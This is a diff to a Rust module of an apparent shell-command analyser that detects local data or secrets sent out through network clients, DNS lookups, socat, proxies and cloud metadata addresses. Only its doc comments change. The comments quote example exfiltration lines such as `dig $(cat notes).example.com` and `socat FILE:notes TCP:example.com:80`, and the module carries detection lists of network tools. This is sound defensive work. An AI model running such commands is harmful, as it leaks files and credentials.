@@ -1,4 +1,4 @@
-//! Local data that leaves in any word or stream of a program that talks to another machine.
+//! Local data that leaves in any word or stream of a program that connects to another machine.
 
 use super::Walker;
 use super::arguments::Arguments;
@@ -9,7 +9,7 @@ use crate::fact::{Fact, FactKind, Tag, Tags};
 use crate::place;
 use crate::verdict::Span;
 
-/// Clients that send what their words hold: addresses, headers, cookies, names of browsers.
+/// Clients that send the content of their words: addresses, headers, cookies, user agents.
 const CLIENTS: &[&str] = &[
     "curl",
     "wget",
@@ -51,7 +51,7 @@ const CLIENTS: &[&str] = &[
     "hping3",
 ];
 
-/// Options of clients whose value goes out as it stands.
+/// Options of clients whose value is sent as it is.
 const SENT: &[&str] = &[
     "-A",
     "--user-agent",
@@ -68,11 +68,11 @@ const SENT: &[&str] = &[
     "--message",
 ];
 
-/// Headers that say who is asking; their value is meant to be sent.
+/// Headers that authenticate the client; their value is meant to be sent.
 const SIGN_IN_HEADERS: &[&str] =
     &["authorization", "x-api-key", "private-token", "x-auth", "cookie"];
 
-/// Programs that look up a name.
+/// Programs that look up a DNS name.
 const LOOKUPS: &[&str] = &[
     "dig",
     "nslookup",
@@ -97,13 +97,13 @@ const LOOKUPS: &[&str] = &[
     "fping",
 ];
 
-/// Kinds of addresses of `socat` that are files, and kinds that are other machines.
+/// Kinds of `socat` addresses that are files, and kinds that are other machines.
 const FILE_KINDS: &[&str] = &["FILE", "OPEN", "GOPEN", "CREATE", "CREAT"];
 const NETWORK_KINDS: &[&str] =
     &["TCP", "UDP", "SSL", "OPENSSL", "SCTP", "SOCKS", "PROXY", "DTLS", "VSOCK", "TCP4", "TCP6"];
 
 impl Walker<'_> {
-    /// Notes local data among the words and the input of a program that sends them.
+    /// Records local data among the words and the input of a program that sends them.
     pub(super) fn sends_words(
         &mut self,
         name: &str,
@@ -133,7 +133,7 @@ impl Walker<'_> {
         self.fed_to_stranger(name, program, args, stdin, span);
     }
 
-    /// `-H "X: $(cat notes)"`, `http://x/?a=$(base64 notes)`.
+    /// Records values such as `-H "X: $(cat notes)"` and `http://x/?a=$(base64 notes)`.
     fn sent_values(&mut self, args: &Arguments<'_>) {
         let local = Tags::of(&[Tag::Local]);
         let mut found: Vec<Arg> = args
@@ -153,7 +153,7 @@ impl Walker<'_> {
         }
     }
 
-    /// `dig $(cat notes).example.com`
+    /// Records `dig $(cat notes).example.com`.
     fn looked_up(&mut self, args: &Arguments<'_>) {
         let holds = |word: &&Arg| {
             let in_name = word.text.contains('.') || word.taint.has(Tag::Encoded);
@@ -165,7 +165,8 @@ impl Walker<'_> {
         }
     }
 
-    /// `--data-urlencode name@file`, `-H @file`, `--variable name@file`, `-b file`.
+    /// Records files in `--data-urlencode name@file`, `-H @file`, `--variable name@file`, `-b
+    /// file`.
     fn curl_files(&mut self, args: &Arguments<'_>) {
         for value in args.values(&["--data-urlencode", "--variable", "--url-query"]) {
             let name_and_file = value.text.split_once('@');
@@ -182,7 +183,8 @@ impl Walker<'_> {
         }
     }
 
-    /// Commands that a client for file transfers, or an archiver, reads: `put FILE`, names of files.
+    /// Records files in the commands that a file transfer client or an archiver reads: `put FILE`,
+    /// file names.
     fn told_to_put(&mut self, name: &str, stdin: &Stream, span: Option<Span>) {
         const TRANSFERS: &[&str] = &["sftp", "ftp", "lftp", "smbclient", "tftp", "ncftp", "psftp"];
         const PUTS: &[&str] = &["put", "mput", "reput", "send", "append", "mirror"];
@@ -206,7 +208,7 @@ impl Walker<'_> {
         }
     }
 
-    /// Secrets in a request that goes through somebody's proxy.
+    /// Records secrets in a request that goes through a proxy.
     fn through_proxy(&mut self, name: &str, args: &Arguments<'_>, span: Option<Span>) {
         const PROXIES: &[&str] =
             &["-x", "--proxy", "--preproxy", "--socks5", "--socks4", "--socks5-hostname"];
@@ -220,7 +222,8 @@ impl Walker<'_> {
         }
     }
 
-    /// `HTTPie`'s items: `name@file`, `name=@file`, `name:=@file`, `@file`, and what is piped in.
+    /// Records `HTTPie`'s items: `name@file`, `name=@file`, `name:=@file`, `@file`, and piped
+    /// input.
     fn request_items(&mut self, args: &Arguments<'_>, stdin: &Stream, span: Option<Span>) {
         for item in args.operands().iter().skip(1) {
             let Some((name, file)) = item.text.split_once('@') else { continue };
@@ -234,7 +237,7 @@ impl Walker<'_> {
         self.sends_stream(stdin, span);
     }
 
-    /// `socat FILE:notes TCP:example.com:80`.
+    /// Records `socat FILE:notes TCP:example.com:80`.
     fn socat(&mut self, args: &Arguments<'_>, span: Option<Span>) {
         let parts = |word: &Arg| {
             let (kind, rest) = word.text.split_once(':').unwrap_or((&word.text, ""));
@@ -257,13 +260,13 @@ impl Walker<'_> {
         }
     }
 
-    /// An address at which a cloud machine hands out its credentials, in any notation.
+    /// Records an address at which a cloud machine hands out its credentials, in any notation.
     fn metadata_address(&mut self, name: &str, args: &Arguments<'_>, span: Option<Span>) {
         if matches!(name, "echo" | "printf" | "grep" | "rg" | "git" | "sed" | "awk") {
             return;
         }
         for word in args.words() {
-            // A word of its own must be an address in numbers; a name needs a scheme in front.
+            // Without a scheme, only a host with a dot or `::` counts.
             let address = word.text.split_once("://").map(|(_, rest)| rest);
             let host = address.unwrap_or(&word.text);
             let host = host.split(['/', '?', '#']).next().unwrap_or_default();
@@ -278,7 +281,7 @@ impl Walker<'_> {
         }
     }
 
-    /// Secrets that are fed to a program nobody here knows.
+    /// Records secrets in the input of an unknown program or a network client.
     fn fed_to_stranger(
         &mut self,
         name: &str,
@@ -303,13 +306,14 @@ impl Walker<'_> {
     }
 }
 
-/// `Authorization: …` and its kin.
+/// Reports whether a header authenticates the client, such as `Authorization: …`.
 fn says_who_asks(header: &str) -> bool {
     let name = header.split(':').next().unwrap_or_default().trim().to_ascii_lowercase();
     SIGN_IN_HEADERS.iter().any(|known| name.starts_with(known)) || name.ends_with("token")
 }
 
-/// `169.254.169.254`, also as one number, in hexadecimal or octal; names and their IPv6 kin.
+/// Reports whether a host is a cloud's metadata service: `169.254.169.254` or a similar address,
+/// also as one number, in hexadecimal or octal, by name or in IPv6.
 fn is_metadata_host(host: &str) -> bool {
     const NUMBERS: [u64; 3] = [0xa9fe_a9fe, 0xa9fe_aa02, 0x6464_64c8];
     const NAMES: &[&str] = &[
@@ -322,7 +326,7 @@ fn is_metadata_host(host: &str) -> bool {
     NAMES.contains(&host) || numeric(host).is_some_and(|number| NUMBERS.contains(&number))
 }
 
-/// The number that an IPv4 address stands for, in the notations that C libraries take.
+/// Returns the number of an IPv4 address, in the notations that C libraries accept.
 fn numeric(host: &str) -> Option<u64> {
     let parts: Vec<u64> = host.split('.').map(number).collect::<Option<_>>()?;
     let (last, first) = parts.split_last()?;
